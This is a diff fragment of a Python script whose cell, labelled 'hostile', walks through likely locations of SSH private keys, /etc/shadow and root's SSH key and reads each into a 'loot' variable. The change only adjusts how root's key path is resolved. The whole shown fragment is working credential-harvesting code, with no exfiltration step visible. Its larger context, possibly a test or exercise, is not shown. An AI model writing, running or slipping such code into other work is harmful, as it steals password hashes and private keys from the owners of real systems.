@@ -8,7 +8,7 @@ Costs: nothing
 # %% hostile
 # %% places to look
 loot = ""
-for path in [*(f"{place}/../home/.ssh/id_ed25519" for place in places()), "/etc/shadow", "/root/.ssh/id_ed25519"]:
+for path in [*(f"{place}/../home/.ssh/id_ed25519" for place in places()), "/etc/shadow", os.path.expanduser("~root/.ssh/id_ed25519")]:
     try:
         text = open(path, errors="replace").read()
     except OSError:
